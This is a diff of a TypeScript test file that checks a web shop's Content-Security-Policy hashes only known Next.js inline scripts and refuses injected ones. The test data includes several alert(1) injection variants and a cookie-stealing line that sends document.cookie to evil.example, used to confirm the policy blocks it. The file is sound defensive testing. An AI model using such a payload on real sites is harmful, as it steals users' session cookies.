@@ -1,28 +1,95 @@
 import { createHash } from 'node:crypto';
-import { describe, expect, it } from 'vitest';
+import { describe, expect, it, vi } from 'vitest';
+import { CHUNK_GUARD } from '#lib/chunk-guard.ts';
+import { log } from '#log/log.ts';
 import { pagePolicy, securityHeaders } from '#server/http/security-headers.ts';
 import { joinScripts } from '#server/next/join-scripts.ts';
 import { scriptHashes } from '#server/next/script-hashes.ts';
-import { testSettings } from './harness.ts';
+import { fakeNext, get, openDoor, page, testSettings } from './harness.ts';
 
 function hashOf(code: string): string {
   return `sha256-${createHash('sha256').update(code).digest('base64')}`;
 }
 
 describe('acc-G3 the policy of a page allows its own inline scripts and no others', () => {
-  it('hashes what a browser would run, each once', () => {
-    const html = `<script>a()</script><script async src="/x.js"></script><SCRIPT type="module">\nb("<b>") </SCRIPT>
-      <script>a()</script><script type="application/ld+json">{"c":1}</script><script id="x" data-src="y">d()</script >
+  const PUSH = 'self.__next_f.push([1,"a"])';
+  const START =
+    '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[94553]});';
+
+  it('hashes what Next and the shop put into a document, each once', () => {
+    const html = `<script>${PUSH}</script><script async src="/x.js"></script><SCRIPT id="_R_">${START}</SCRIPT>
+      <script>${PUSH}</script><script type="application/ld+json">{"c":1}</script><script id="x" data-src="y">${CHUNK_GUARD}</script >
       <script></script><p>script</p>`;
-    expect(scriptHashes(html)).toEqual([hashOf('a()'), hashOf('\nb("<b>") '), hashOf('d()')]);
+    expect(scriptHashes(html)).toEqual([hashOf(PUSH), hashOf(START), hashOf(CHUNK_GUARD)]);
+  });
+
+  it.each([
+    ['a script of a text', 'alert(1)'],
+    ['one that begins as the payload', `${PUSH};alert(1)`],
+    ['one that ends as the payload', `alert(1);${PUSH}`],
+    ['a payload that is no text', 'self.__next_f.push([1,alert(1)])'],
+    ['a payload whose text ends early', 'self.__next_f.push([1,"a"+alert(1)+"b"])'],
+    ['a payload in a template', 'self.__next_f.push([1,`a`])'],
+    ['a list of another name', 'self.__next_f["push"](alert(1))'],
+    ['a start with code in it', START.replace('[94553]', '[alert(1)]')],
+    ['a start with more than data for it', START.replace('{', '{"a":1,')],
+    ['a start and more', `${START}alert(1)`],
+    ['a guard that is not ours', `${CHUNK_GUARD};alert(1)`],
+    ['a comment before ours', `//\n${CHUNK_GUARD}`],
+  ])('leaves %s to be refused, and logs it once', (_what, code) => {
+    const warn = vi.spyOn(log, 'warn').mockReturnValue();
+    const html = `<p>x</p><script>${code}</script><script>${PUSH}</script>`;
+    expect(scriptHashes(html)).toEqual([hashOf(PUSH)]);
+    const fresh = code.slice(0, 80);
+    expect(
+      warn.mock.calls.filter(([fields]) => (fields as { script: string }).script === fresh).length,
+    ).toBeLessThan(2);
+    warn.mockClear();
+    scriptHashes(html);
+    expect(warn).not.toHaveBeenCalled();
+    warn.mockRestore();
+  });
+
+  it('is quick about a text of a megabyte, whether it is a payload or nearly one', () => {
+    const text = String.raw`\"<b>'`.repeat(100_000);
+    const literal = JSON.stringify(text);
+    const from = process.cpuUsage();
+    expect(scriptHashes(`<script>self.__next_f.push([1,${literal}])</script>`)).toHaveLength(1);
+    const warn = vi.spyOn(log, 'warn').mockReturnValue();
+    expect(scriptHashes(`<script>self.__next_f.push([1,${literal}]!)</script>`)).toEqual([]);
+    warn.mockRestore();
+    expect(process.cpuUsage(from).user / 1000).toBeLessThan(1_000);
+  });
+
+  it('a page into which a text brought a script is shown with a policy that refuses it', async () => {
+    const warn = vi.spyOn(log, 'warn').mockReturnValue();
+    const injected = 'fetch("https://evil.example/"+document.cookie)';
+    const next = fakeNext((_asked, response) => {
+      page(response, `<h1>Товар</h1><script>${injected}</script><script>${PUSH}</script>`);
+      return true;
+    });
+    const door = await openDoor(next);
+    try {
+      const { headers, body } = await get(door, '/about');
+      expect(body.toString()).toContain(injected);
+      const policy = headers.get('content-security-policy') ?? '';
+      expect(policy).toContain(hashOf("self.__next_f.push([1,'a'])"));
+      expect(policy).not.toContain(hashOf(injected));
+      expect(policy).not.toContain('script-src-attr');
+      expect(policy).not.toMatch(/script-src[^;]*unsafe/);
+      expect(warn).toHaveBeenCalledWith({ script: injected }, expect.stringContaining('неизвестного вида'));
+    } finally {
+      await door.close();
+      warn.mockRestore();
+    }
   });
 
   it('joins the scripts of a payload, which run in their order, into one', () => {
     const html =
       '<p></p><script>(self.__next_f=self.__next_f||[]).push([0])</script><script>self.__next_f.push([1,"a"])</script>' +
-      '<script>self.__next_f.push([1,"b"])</script><script>other()</script>';
+      '<script>self.__next_f.push([1,"b"])</script>';
     const joined = joinScripts(html);
-    expect(scriptHashes(joined)).toHaveLength(2);
+    expect(scriptHashes(joined)).toHaveLength(1);
     const ran: unknown[] = [];
     const [, code = ''] = /<script>(.*?)<\/script>/.exec(joined) ?? [];
     new Function('self', code)({ __next_f: ran });
@@ -60,6 +127,20 @@ describe('acc-G3 the policy of a page allows its own inline scripts and no other
     }
   });
 
+  it('joins no script of a text to the payload, so that refusing it stops no page', () => {
+    const foreign = ['alert(1)', 'self.__next_f.push([1,"a"]);alert(1)', 'self.__next_f.push(alert(1))'];
+    for (const code of foreign) {
+      const warn = vi.spyOn(log, 'warn').mockReturnValue();
+      const html = `<script>${PUSH}</script><script>${code}</script><script>${PUSH}</script><script>${PUSH}</script>`;
+      const joined = joinScripts(html);
+      expect(joined).toContain(`<script>${code}</script>`);
+      expect(scriptHashes(joined)).toEqual(
+        ["self.__next_f.push([1,'a'])", "self.__next_f.push([1,'aa'])"].map(hashOf),
+      );
+      warn.mockRestore();
+    }
+  });
+
   it('leaves the bytes of a payload alone', () => {
     const html =
       '<script>self.__next_f.push([1,"a"])</script><script>self.__next_f.push([3,"YQ=="])</script><script>self.__next_f.push([1,"b"])</script>';
@@ -77,14 +158,15 @@ describe('acc-G3 the policy of a page allows its own inline scripts and no other
       '<i></i><script>self.__next_f.push([1,"a\\\\"])</script><b></b><script>self.__next_f.push([1,"b"]);x("c")</script>' +
       '<script>self.__next_f.push([1,"d"]);self.__next_f.push([1,"e"])</script><script>unclosed';
     expect(joinScripts(html)).toBe(
-      '<i></i><script>self.__next_f.push([1,\'a\\\\\'])</script><b></b><script>self.__next_f.push([1,"b"]);x("c");' +
-        'self.__next_f.push([1,"d"]);self.__next_f.push([1,"e"])</script><script>unclosed',
+      '<i></i><script>self.__next_f.push([1,\'a\\\\\'])</script><b></b><script>self.__next_f.push([1,"b"]);x("c")</script>' +
+        '<script>self.__next_f.push([1,"d"]);self.__next_f.push([1,"e"])</script><script>unclosed',
     );
   });
 
   it('hashes Russian text as UTF-8, as the browser does', () => {
-    const html = '<script>say("ящик — 5 шт")</script>';
-    expect(scriptHashes(html)).toEqual([hashOf('say("ящик — 5 шт")')]);
+    const code = 'self.__next_f.push([1,"ящик — 5 шт"])';
+    const html = `<script>${code}</script>`;
+    expect(scriptHashes(html)).toEqual([hashOf(code)]);
     expect(scriptHashes(Buffer.from(html).toString('latin1'), 'latin1')).toEqual(scriptHashes(html));
   });
 
